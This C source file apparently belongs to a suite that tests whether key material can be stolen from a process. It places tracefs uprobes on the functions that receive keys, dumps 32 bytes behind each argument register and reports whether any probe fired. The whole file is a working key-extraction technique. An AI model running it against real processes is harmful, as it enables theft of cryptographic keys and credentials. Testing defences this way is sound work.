/* SPDX-License-Identifier: GPL-3.0-or-later */
/* A uprobe by tracefs on the functions that get keys: 32 octets behind each register. */
#include <stdio.h>

#include "symbols.h"
#include "tracefs.h"

static void
arm(const struct theft *t, const struct spot *spot, size_t n)
{
	static const char *const registers[] = { "di", "si", "dx", "cx", "r8", "r9" };
	char line[2048], event[64], filter[64];
	int at = snprintf(line, sizeof(line), "p:theft%d/e%zu %s:0x%lx", (int)t->pid, n, spot->path,
			  (unsigned long)spot->offset);

	for (size_t r = 0; r < sizeof(registers) / sizeof(registers[0]); r++) {
		for (int k = 0; k < 4; k++)
			at += snprintf(line + at, sizeof(line) - (size_t)at, " +%d(%%%s):x64",
				       8 * k, registers[r]);
	}
	tracefs_write("uprobe_events", line);
	snprintf(event, sizeof(event), "theft%d/e%zu", (int)t->pid, n);
	snprintf(filter, sizeof(filter), "common_pid == %d", (int)t->pid);
	tracefs_enable(event, filter);
}

int
main(int argc, char **argv)
{
	static struct spot spots[SPOTS];
	static struct theft t;
	char event[64];
	size_t n = 0, lines = 0;

	theft_begin(&t, argc, argv);
	tracefs_begin("uprobe_events");
	n = symbols_find(&t, spots);
	for (size_t i = 0; i < n; i++)
		arm(&t, &spots[i], i);
	lines = tracefs_collect(&t, theft_patience(3));
	for (size_t i = 0; i < n; i++) {
		snprintf(event, sizeof(event), "theft%d/e%zu", (int)t.pid, i);
		tracefs_remove("uprobe_events", event);
	}
	if (lines == 0)
		theft_refused("uprobes by tracefs: none was hit");
	theft_end(&t, "uprobes by tracefs");
}
